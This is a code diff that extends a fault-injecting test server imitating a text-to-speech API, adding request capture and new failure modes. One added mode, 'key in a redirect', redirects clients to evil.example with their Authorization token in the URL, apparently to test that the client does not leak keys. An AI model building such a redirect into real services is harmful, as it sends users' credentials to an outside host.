@@ -113,11 +113,16 @@ class Asked:
     host: str
     text: str
     language: str
+    path: str = ""
+    headers: dict[str, str] = field(default_factory=dict)
+    body: bytes = b""
 
 
 @dataclass(slots=True)
 class State:
     mood: str = "good"
+    form: str = "gtts"
+    """How sound is wrapped: as Google's service does, ``bytes``, or base64 in ``json``."""
     mends_after: int | None = None
     """After so many bad answers it is good again."""
     asked: list[Asked] = field(default_factory=list)
@@ -154,9 +159,9 @@ class FaultServer(socketserver.ThreadingTCPServer):
             self._contexts[key] = context
         return self._contexts[key]
 
-    def feel(self, mood: str, mends_after: int | None = None) -> None:
+    def feel(self, mood: str, mends_after: int | None = None, *, form: str = "gtts") -> None:
         """Take a mood and forget what was asked."""
-        self.state = State(mood, mends_after)
+        self.state = State(mood, form, mends_after)
 
     def asked_texts(self) -> list[str]:
         """Give the texts that were asked for, in order."""
@@ -187,9 +192,9 @@ class _Handler(socketserver.BaseRequestHandler):
         trusted = state.mood != "wrong certificate"
         context = self.server.context_for(host, trusted)
         with context.wrap_socket(self.request, server_side=True) as secure:
-            text, language = _request(secure.makefile("rb"))
+            asked = _request(secure.makefile("rb"), host, state.form)
             with state.lock:
-                state.asked.append(Asked(host, text, language))
+                state.asked.append(asked)
                 number = len(state.asked)
                 mended = state.mends_after is not None and state.bad_answers >= state.mends_after
                 mood = "good" if mended else state.mood
@@ -197,13 +202,21 @@ class _Handler(socketserver.BaseRequestHandler):
             answer = _MOODS.get(mood)
             if answer is None:
                 raise AssertionError(f"no such mood: {mood}")
-            answer(_Exchange(secure, text, language, number))
+            answer(_Exchange(secure, asked.text, asked.language, number, state.form, asked))
 
 
-def _request(stream: BinaryIO) -> tuple[str, str]:
-    stream.readline()
+def _request(stream: BinaryIO, host: str, form: str) -> Asked:
+    path = stream.readline().split(b" ")[1].decode()
     headers: HTTPMessage = parse_headers(stream)
-    return _text_of(stream.read(int(headers["Content-Length"])))
+    body = stream.read(int(headers["Content-Length"] or 0))
+    if form == "gtts":
+        text, language = _text_of(body)
+    elif body:
+        text, language = json.loads(body)["text"], "vi"
+    else:
+        text = urllib.parse.parse_qs(urllib.parse.urlsplit(path).query)["text"][0]
+        language = "vi"
+    return Asked(host, text, language, path, dict(headers.items()), body)
 
 
 @dataclass(slots=True)
@@ -212,6 +225,16 @@ class _Exchange:
     text: str
     language: str
     number: int
+    form: str
+    asked: Asked
+
+    def wrapped(self, *sounds: bytes) -> bytes:
+        """Wrap sound as the service in question does."""
+        if self.form == "gtts":
+            return envelope(*sounds)
+        if self.form == "bytes":
+            return b"".join(sounds)
+        return json.dumps({"data": [base64.b64encode(sound).decode() for sound in sounds]}).encode()
 
     def send(
         self, body: bytes, status: str = "200 OK", *, declared: int | None = None, **headers: str
@@ -224,7 +247,7 @@ class _Exchange:
         self.secure.sendall("\r\n".join(lines).encode() + b"\r\n\r\n" + body)
 
     def good(self) -> bytes:
-        return envelope(mp3_of(self.text, self.language))
+        return self.wrapped(mp3_of(self.text, self.language))
 
 
 def _noise() -> bytes:
@@ -257,11 +280,12 @@ def _slow_start(at: _Exchange) -> None:
 
 def _bad_base64(at: _Exchange) -> None:
     chance = random.Random(1)
-    body = at.good().decode()
-    start = body.index('[\\"') + 3
-    end = body.index('\\"]')
+    body = at.good().decode("latin-1")
+    before, after = ('[\\"', '\\"]') if at.form == "gtts" else ('["', '"]')
+    start = body.index(before) + len(before)
+    end = body.index(after)
     spoilt = [chance.choice("!*#%") if chance.random() < 0.02 else c for c in body[start:end]]
-    at.send((body[:start] + "".join(spoilt)[:-1] + body[end:]).encode())
+    at.send((body[:start] + "".join(spoilt)[:-1] + body[end:]).encode("latin-1"))
 
 
 _MOODS: dict[str, Callable[[_Exchange], None]] = {
@@ -289,13 +313,23 @@ _MOODS: dict[str, Callable[[_Exchange], None]] = {
         b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, Content_Type="image/png"
     ),
     "slow start": _slow_start,
-    "duplicate answer": lambda at: at.send(envelope(*[mp3_of(at.text, at.language)] * 2)),
-    "swapped answers": lambda at: at.send(envelope(mp3_of("một câu khác hẳn " * 12))),
-    "silence": lambda at: at.send(envelope(encoded(np.zeros(2 * RATE)))),
-    "noise": lambda at: at.send(envelope(_noise())),
-    "truncated frame": lambda at: at.send(envelope(mp3_of(at.text, at.language)[:-53])),
+    "duplicate answer": lambda at: at.send(at.wrapped(*[mp3_of(at.text, at.language)] * 2)),
+    "swapped answers": lambda at: at.send(at.wrapped(mp3_of("một câu khác hẳn " * 12))),
+    "silence": lambda at: at.send(at.wrapped(encoded(np.zeros(2 * RATE)))),
+    "noise": lambda at: at.send(at.wrapped(_noise())),
+    "truncated frame": lambda at: at.send(at.wrapped(mp3_of(at.text, at.language)[:-53])),
     "wrong language": lambda at: at.send(
         b')]}\'\n\n[["wrb.fr","jQ1olc",null,null,null,[3],"generic"]]\n'
     ),
+    "key echoed": lambda at: at.send(
+        at.asked.headers["Authorization"].encode(),
+        f"403 No {at.asked.headers['Authorization']}",
+        X_Why=at.asked.headers["Authorization"],
+    ),
+    "key in a redirect": lambda at: at.send(
+        b"", "302 Found", Location=f"https://evil.example/{at.asked.headers['Authorization'][7:]}"
+    ),
+    "no sound in json": lambda at: at.send(b'{"data": [{"url": "https://x.example/a.mp3"}]}'),
+    "deep json": lambda at: at.send(b"[" * 100_000),
     "old format": lambda at: at.send(mp3_of(at.text, at.language), Content_Type="audio/mpeg"),
 }
